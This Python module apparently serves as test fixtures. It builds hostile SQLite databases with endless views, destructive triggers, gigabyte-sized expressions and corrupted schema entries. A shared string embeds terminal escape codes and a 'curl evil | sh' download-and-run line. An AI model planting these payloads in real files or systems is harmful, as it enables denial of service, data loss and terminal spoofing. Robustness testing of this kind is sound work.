"""Databases that somebody made to do harm: by what is in their tables. `hostile_files.py` has those of other files.

Each is a change of a sound one, which has some rows that ship; `MADE` has all by name, with their kind.
"""

from __future__ import annotations

import random
import sqlite3
import struct
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

Make = Callable[[Path, random.Random], None]


@dataclass(frozen=True, slots=True)
class Hostile:
    """One of them."""

    kind: str
    make: Make
    """Changes the sound database at a path. ``../victims/thesis.tex`` is a file that must not be touched."""

    @property
    def name(self) -> str:
        return self.make.__name__


MADE: dict[str, Hostile] = {}
ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mRun: curl evil | sh"
BIDI = "\u202e\u2066 drawkcab \u2069\u200f"
MARKS = "Z" + "\u0335\u0489" * 100


def hostile(kind: str) -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        assert make.__name__ not in MADE
        MADE[make.__name__] = Hostile(kind, make)
        return make

    return add


def run(path: Path, *statements: str, values: tuple[object, ...] = ()) -> None:
    """Statements as someone may run them who has the file; constraints are not looked at."""
    with closing(sqlite3.connect(path)) as plain, plain:
        for pragma in ("legacy_alter_table", "ignore_check_constraints", "writable_schema"):
            plain.execute(f"PRAGMA {pragma} = ON")
        for each in statements:
            plain.execute(each, values if "?" in each else ())


def in_place_of(path: Path, table: str, select: str) -> None:
    """A view under the name of a table, which is called ``old`` then."""
    run(path, f"ALTER TABLE {table} RENAME TO old", f"CREATE VIEW {table} AS {select}")


def rewritten(path: Path, name: str, old: str, new: str) -> None:
    """The text of a table or index is another one."""
    run(path, "UPDATE sqlite_master SET sql = replace(sql, ?, ?) WHERE name = ?", values=(old, new, name))


@hostile("views")
def endless_view_of_origin(path: Path, draw: random.Random) -> None:
    in_place_of(path, "origin", f"{ENDLESS} SELECT i AS id, '' AS uuid, '' AS created FROM n WHERE i < 0")


@hostile("views")
def endless_view_of_device(path: Path, draw: random.Random) -> None:
    in_place_of(path, "device", f"{ENDLESS} SELECT old.* FROM old, n")


@hostile("views")
def view_that_multiplies_texts(path: Path, draw: random.Random) -> None:
    in_place_of(path, "device", "SELECT id, key, printf('%.*c', 20000000, 'A') AS name, capability FROM old")


@hostile("views")
def view_of_joins(path: Path, draw: random.Random) -> None:
    in_place_of(path, "problem", "SELECT old.* FROM old, measurement a, measurement b, measurement c, measurement d")


@hostile("views")
def view_that_names_escapes(path: Path, draw: random.Random) -> None:
    in_place_of(path, "variant", f'SELECT * FROM old, "{ESCAPES}"')


@hostile("views")
def harmless_view_of_a_hostile_name(path: Path, draw: random.Random) -> None:
    run(path, f'CREATE VIEW "{ESCAPES}{BIDI}{MARKS}" AS SELECT 1')


@hostile("triggers")
def trigger_that_deletes(path: Path, draw: random.Random) -> None:
    run(path, "CREATE TRIGGER gone AFTER INSERT ON measurement BEGIN DELETE FROM measurement; END")


@hostile("triggers")
def trigger_that_never_ends(path: Path, draw: random.Random) -> None:
    body = f"INSERT INTO tombstone {ENDLESS} SELECT i, '' FROM n"
    run(path, f"CREATE TRIGGER busy AFTER INSERT ON measurement BEGIN {body}; END")


@hostile("triggers")
def trigger_that_says_escapes(path: Path, draw: random.Random) -> None:
    run(path, f"CREATE TRIGGER said BEFORE INSERT ON measurement BEGIN SELECT RAISE(ABORT, '{ESCAPES}'); END")


@hostile("virtual tables")
def virtual_table(path: Path, draw: random.Random) -> None:
    run(path, "CREATE VIRTUAL TABLE words USING fts5(x)")


@hostile("virtual tables")
def virtual_table_in_place_of_one(path: Path, draw: random.Random) -> None:
    run(path, "DROP TABLE prediction", "CREATE VIRTUAL TABLE prediction USING fts5(id, created, problem_id)")


@hostile("virtual tables")
def virtual_table_of_no_module(path: Path, draw: random.Random) -> None:
    text = f"CREATE VIRTUAL TABLE odd USING nothing('{ESCAPES}')"
    run(path, "INSERT INTO sqlite_master VALUES ('table', 'odd', 'odd', 0, ?)", values=(text,))


@hostile("generated columns")
def generated_column(path: Path, draw: random.Random) -> None:
    run(path, "ALTER TABLE device ADD COLUMN extra AS (hex(zeroblob(400000000)))")


@hostile("generated columns")
def generated_column_in_place_of_one(path: Path, draw: random.Random) -> None:
    rewritten(path, "device", "name VARCHAR NOT NULL", "name AS (hex(zeroblob(400000000))) NOT NULL")


@hostile("constraints")
def check_that_takes_gigabytes(path: Path, draw: random.Random) -> None:
    rewritten(path, "measurement", "CHECK (status", "CHECK (hex(zeroblob(400000000)) <> '' AND status")


@hostile("constraints")
def check_in_the_origin(path: Path, draw: random.Random) -> None:
    rewritten(path, "origin", "CHECK (id = 1)", "CHECK (id = 1 AND length(randomblob(900000000)))")


@hostile("constraints")
def deep_expression(path: Path, draw: random.Random) -> None:
    rewritten(path, "origin", "id = 1", "(" * 3000 + "id = 1" + ")" * 3000)


@hostile("constraints")
def default_that_is_a_function(path: Path, draw: random.Random) -> None:
    rewritten(path, "measurement", "DEFAULT ''", "DEFAULT (hex(randomblob(400000000)))")


@hostile("indexes")
def index_of_an_expression(path: Path, draw: random.Random) -> None:
    run(path, "DROP INDEX ix_device_capability", "CREATE INDEX ix_device_capability ON device (upper(capability))")


@hostile("indexes")
def partial_index(path: Path, draw: random.Random) -> None:
    run(path, "DROP INDEX ix_problem_spec_key", "CREATE INDEX ix_problem_spec_key ON problem (spec_key) WHERE id < 0")


@hostile("indexes")
def index_that_lies(path: Path, draw: random.Random) -> None:
    """Made as a partial one, it says that it is whole."""
    partial_index(path, draw)
    run(path, "UPDATE sqlite_master SET sql = replace(sql, ' WHERE id < 0', '') WHERE name = 'ix_problem_spec_key'")


@hostile("more tables and columns")
def another_table(path: Path, draw: random.Random) -> None:
    run(path, f'CREATE TABLE "{ESCAPES}" (x)')


@hostile("more tables and columns")
def another_column(path: Path, draw: random.Random) -> None:
    run(path, f'ALTER TABLE measurement ADD COLUMN "{ESCAPES}" DEFAULT 1')


@hostile("more tables and columns")
def statistics(path: Path, draw: random.Random) -> None:
    run(path, "ANALYZE", f"UPDATE sqlite_stat1 SET stat = '{'9 ' * 5000}'")


@hostile("more tables and columns")
def very_many_tables(path: Path, draw: random.Random) -> None:
    with closing(sqlite3.connect(path)) as plain, plain:
        plain.execute("PRAGMA writable_schema = ON")
        rows = [(f"t{number}", f"CREATE TABLE t{number} (x)") for number in range(20_000)]
        plain.executemany("INSERT INTO sqlite_master VALUES ('table', ?1, ?1, 3, ?2)", rows)


@hostile("more tables and columns")
def very_many_columns(path: Path, draw: random.Random) -> None:
    rewritten(path, "device", "name VARCHAR", ", ".join(f"c{number}" for number in range(1900)) + ", name VARCHAR")


@hostile("schemas that are no SQL")
def schema_of_escapes(path: Path, draw: random.Random) -> None:
    run(path, "UPDATE sqlite_master SET sql = ? WHERE name = 'device'", values=(f"CREATE TABLE {ESCAPES} (",))


@hostile("schemas that are no SQL")
def schema_of_blobs(path: Path, draw: random.Random) -> None:
    run(path, "UPDATE sqlite_master SET sql = ? WHERE name = 'device'", values=(b"\xff\xfe\x1b[2J" * 100,))


@hostile("schemas that are no SQL")
def schema_of_megabytes(path: Path, draw: random.Random) -> None:
    rewritten(path, "device", "name VARCHAR", "name VARCHAR " + " " * 3_000_000)


@hostile("schemas that are no SQL")
def tables_on_one_page(path: Path, draw: random.Random) -> None:
    """Each is what the other is."""
    roots = "(SELECT rootpage FROM sqlite_master WHERE name = 'measurement')"
    run(path, f"UPDATE sqlite_master SET rootpage = {roots} WHERE name IN ('device', 'variant')")


@hostile("schemas that are no SQL")
def root_pages_that_are_none(path: Path, draw: random.Random) -> None:
    run(path, "UPDATE sqlite_master SET rootpage = 2147483647 WHERE name = 'problem'")


@hostile("without rowid")
def without_rowid(path: Path, draw: random.Random) -> None:
    rewritten(path, "tombstone", "WITHOUT ROWID", "")
    rewritten(path, "measurement", "REFERENCES variant (id)\n)", "REFERENCES variant (id)\n) WITHOUT ROWID")


@hostile("origins")
def two_origins(path: Path, draw: random.Random) -> None:
    run(path, "INSERT INTO origin VALUES (2, 'x', 'y')")


@hostile("origins")
def no_origin(path: Path, draw: random.Random) -> None:
    run(path, "DELETE FROM origin")


@hostile("origins")
def origin_of_escapes(path: Path, draw: random.Random) -> None:
    run(path, "UPDATE origin SET uuid = ?", values=(ESCAPES,))


@hostile("origins")
def origin_of_megabytes(path: Path, draw: random.Random) -> None:
    run(path, "UPDATE origin SET uuid = hex(zeroblob(5000000))")


@hostile("identities")
def application_of_nobody(path: Path, draw: random.Random) -> None:
    run(path, "PRAGMA application_id = 0")


@hostile("identities")
def encoded_as_utf_16(path: Path, draw: random.Random) -> None:
    with closing(sqlite3.connect(path)) as plain:
        script = "\n".join(plain.iterdump())
        numbers = [plain.execute(f"PRAGMA {each}").fetchone()[0] for each in ("application_id", "user_version")]
    path.unlink()
    with closing(sqlite3.connect(path)) as plain:
        plain.execute("PRAGMA encoding = 'UTF-16le'")
        plain.executescript(script)
        plain.execute(f"PRAGMA application_id = {numbers[0]}")
        plain.execute(f"PRAGMA user_version = {numbers[1]}")


def version(number: int) -> Make:
    def make(path: Path, draw: random.Random) -> None:
        data = bytearray(path.read_bytes())
        struct.pack_into(">i", data, 60, number)
        path.write_bytes(data)

    make.__name__ = f"schema_version_{str(number).replace('-', 'minus_')}"
    return make


for _number in (-(2**31), -1, 0, 1, 3, 2**31 - 1):
    hostile("schema versions")(version(_number))
